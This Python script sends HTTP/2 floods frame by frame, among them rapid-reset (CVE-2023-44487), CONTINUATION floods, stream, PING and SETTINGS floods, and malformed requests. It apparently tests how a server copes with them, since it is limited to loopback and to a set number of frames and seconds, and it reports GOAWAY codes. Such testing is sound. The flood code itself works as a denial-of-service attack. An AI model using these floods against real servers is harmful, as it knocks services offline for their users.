#!/usr/bin/env python3
"""HTTP/2 clients that misbehave on purpose, written frame by frame.

    h2flood.py HOST PORT MODE [--tls] [--authority A] [--seconds S]
               [--max-frames N]

MODE is one of:
  rapid-reset    HEADERS then RST_STREAM(CANCEL) for stream after stream
                 (CVE-2023-44487)
  continuation   one HEADERS without END_HEADERS, then CONTINUATION frames
                 with more fields, never ending the block
  empty-continuation   the same with empty CONTINUATION frames
  streams        HEADERS without END_STREAM, stream after stream, more than
                 the server's SETTINGS_MAX_CONCURRENT_STREAMS
  ping           PING after PING
  settings       SETTINGS after SETTINGS
  empty-data     an open stream, then empty DATA frames

  bad-requests   not a flood: on one connection, a slow good request
                 (stream 1, GET /sleep.cgi?1) beside requests HTTP/1.1
                 would refuse: a header list over 32 KiB (3), a
                 content-length over 50000 (5, its body never sent), no
                 :authority nor Host (7), a body without length that
                 grows past 50000 and never ends (9);
                 prints "stream ID end=0|1 rst=CODE|- body=FIRST LINE"
                 for each, then "goaway=CODE|-"

Each connection floods until the server's GOAWAY comes, at most
--max-frames frames; connections follow one another for --seconds (0: one
connection).  Bounded in count and time, to loopback only.  Prints one line
per connection, "goaway error=CODE last_stream=ID frames=N" or
"closed frames=N" (no GOAWAY), then "connections=N calm=M".
"""
import argparse
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PING, GOAWAY, CONTINUATION = 6, 7, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
ENHANCE_YOUR_CALM = 0xB


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(
        ">BBI", ftype, flags, stream & 0x7FFFFFFF) + payload


def hpack_int(n, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if n < limit:
        return bytes([first | n])
    out = [first | limit]
    n -= limit
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def literal(name, value):
    """A literal field without indexing, no Huffman (RFC 7541 6.2.2)."""
    name, value = name.encode(), value.encode()
    return (b"\x00" + hpack_int(len(name), 7) + name +
            hpack_int(len(value), 7) + value)


def request_block(authority, path, method="GET"):
    return (literal(":method", method) + literal(":scheme", "https") +
            literal(":authority", authority) + literal(":path", path))


class Conn:
    def __init__(self, host, port, use_tls):
        raw = socket.create_connection((host, port), timeout=5)
        if use_tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            self.s = ctx.wrap_socket(raw, server_hostname="a.test")
            if self.s.selected_alpn_protocol() != "h2":
                sys.exit("server did not select h2")
        else:
            self.s = raw
        self.s.setblocking(False)
        self.inbuf = b""
        self.goaway = None
        self.closed = False
        self.frames = []
        self.keep_frames = False
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        view = memoryview(data)
        deadline = time.monotonic() + 5
        while view and not self.closed:
            try:
                n = self.s.send(view)
                view = view[n:]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError,
                    BlockingIOError):
                self.poll(0.05)
                if time.monotonic() > deadline:
                    return
            except OSError:
                self.closed = True

    def poll(self, wait=0.0):
        """Reads what came; notes a GOAWAY and the close."""
        try:
            r, _, _ = select.select([self.s], [], [], wait)
        except (OSError, ValueError):
            self.closed = True
            return
        if not r:
            return
        while not self.closed:
            try:
                data = self.s.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError,
                    BlockingIOError):
                break
            except OSError:
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            self.inbuf += data
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < 9 + length:
                break
            ftype = self.inbuf[3]
            self.inbuf_flags = self.inbuf[4]
            sid = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
            payload = self.inbuf[9:9 + length]
            self.inbuf = self.inbuf[9 + length:]
            if self.keep_frames:
                self.frames.append((ftype, self.inbuf_flags, sid, payload))
            if ftype == GOAWAY and len(payload) >= 8:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = (code, last & 0x7FFFFFFF)

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


def flood(conn, mode, authority, max_frames):
    """Sends the flood until a GOAWAY; returns how many frames went."""
    sent = 0
    stream = 1
    batch = []
    if mode in ("continuation", "empty-continuation"):
        conn.send(frame(HEADERS, END_STREAM, 1,
                        request_block(authority, "/index.html")))
        sent += 1
    if mode == "empty-data":
        conn.send(frame(HEADERS, END_HEADERS, 1,
                        request_block(authority, "/upload.cgi", "POST")))
        sent += 1
    while sent < max_frames and not conn.closed and conn.goaway is None:
        if mode == "rapid-reset":
            batch.append(frame(HEADERS, END_HEADERS | END_STREAM, stream,
                               request_block(authority, "/index.html")))
            batch.append(frame(RST_STREAM, 0, stream,
                               struct.pack(">I", 0x8)))
            stream += 2
            sent += 2
        elif mode == "streams":
            batch.append(frame(HEADERS, END_HEADERS, stream,
                               request_block(authority, "/index.html",
                                             "POST")))
            stream += 2
            sent += 1
        elif mode == "continuation":
            batch.append(frame(CONTINUATION, 0, 1,
                               literal("x-flood-%d" % sent, "a" * 100)))
            sent += 1
        elif mode == "empty-continuation":
            batch.append(frame(CONTINUATION, 0, 1))
            sent += 1
        elif mode == "ping":
            batch.append(frame(PING, 0, 0, struct.pack(">Q", sent)))
            sent += 1
        elif mode == "settings":
            batch.append(frame(SETTINGS, 0, 0))
            sent += 1
        elif mode == "empty-data":
            batch.append(frame(DATA, 0, 1))
            sent += 1
        else:
            sys.exit("unknown mode " + mode)
        if len(batch) >= 32:
            conn.send(b"".join(batch))
            batch = []
            conn.poll(0)
    if batch:
        conn.send(b"".join(batch))
    deadline = time.monotonic() + 5
    while not conn.closed and conn.goaway is None and \
            time.monotonic() < deadline:
        conn.poll(0.1)
    # What the server still sends until it closes.
    deadline = time.monotonic() + 3
    while not conn.closed and time.monotonic() < deadline:
        conn.poll(0.1)
    return sent


def bad_requests(conn, authority):
    """Sends the streams of mode bad-requests; reports how each ended."""
    streams = {1: {}, 3: {}, 5: {}, 7: {}, 9: {}}
    out = frame(HEADERS, END_HEADERS | END_STREAM, 1,
                request_block(authority, "/sleep.cgi?1"))
    big = request_block(authority, "/") + literal("x-big", "a" * 40000)
    first, rest = big[:16384], big[16384:]
    out += frame(HEADERS, END_STREAM, 3, first)
    while rest:
        piece, rest = rest[:16384], rest[16384:]
        out += frame(CONTINUATION, 0 if rest else END_HEADERS, 3, piece)
    out += frame(HEADERS, END_HEADERS, 5,
                 request_block(authority, "/upload.cgi", "POST") +
                 literal("content-length", "60000"))
    out += frame(HEADERS, END_HEADERS | END_STREAM, 7,
                 literal(":method", "GET") + literal(":scheme", "https") +
                 literal(":path", "/index.html"))
    out += frame(HEADERS, END_HEADERS, 9,
                 request_block(authority, "/upload.cgi", "POST"))
    # One byte past the limit and no END_STREAM: the answer cannot race
    # the end of the body, so the client must be told to stop sending.
    for i in range(5):
        out += frame(DATA, 0, 9, b"x" * 10000)
    out += frame(DATA, 0, 9, b"x")
    conn.send(out)
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and not conn.closed and \
            not all(v.get("end") or v.get("rst") is not None
                    for v in streams.values()):
        conn.poll(0.1)
        while conn.frames:
            ftype, flags, sid, payload = conn.frames.pop(0)
            st = streams.get(sid)
            if st is None:
                continue
            if ftype == DATA:
                st["body"] = st.get("body", b"") + payload
            if ftype in (DATA, HEADERS) and flags & END_STREAM:
                st["end"] = True
            if ftype == RST_STREAM:
                st["rst"] = struct.unpack(">I", payload[:4])[0]
    for sid in sorted(streams):
        st = streams[sid]
        body = st.get("body", b"").decode("latin-1").split("\n")[0]
        rst = st.get("rst")
        print("stream %d end=%d rst=%s body=%s" % (
            sid, 1 if st.get("end") else 0, "-" if rst is None else rst,
            body), flush=True)
    print("goaway=%s" % ("-" if conn.goaway is None else conn.goaway[0]),
          flush=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("mode")
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--authority", default="a.test")
    ap.add_argument("--seconds", type=float, default=0)
    ap.add_argument("--max-frames", type=int, default=20000)
    a = ap.parse_args()
    if a.host not in ("127.0.0.1", "::1", "localhost"):
        sys.exit("loopback only")
    if a.mode == "bad-requests":
        conn = Conn(a.host, a.port, a.tls)
        conn.keep_frames = True
        bad_requests(conn, a.authority)
        conn.close()
        return
    end = time.monotonic() + a.seconds
    nconn = ncalm = 0
    while True:
        conn = Conn(a.host, a.port, a.tls)
        n = flood(conn, a.mode, a.authority, a.max_frames)
        conn.close()
        nconn += 1
        if conn.goaway is not None:
            code, last = conn.goaway
            ncalm += code == ENHANCE_YOUR_CALM
            print("goaway error=%d last_stream=%d frames=%d closed=%s" %
                  (code, last, n, conn.closed), flush=True)
        else:
            print("closed frames=%d" % n, flush=True)
        if time.monotonic() >= end:
            break
    print("connections=%d calm=%d" % (nconn, ncalm), flush=True)


if __name__ == "__main__":
    main()
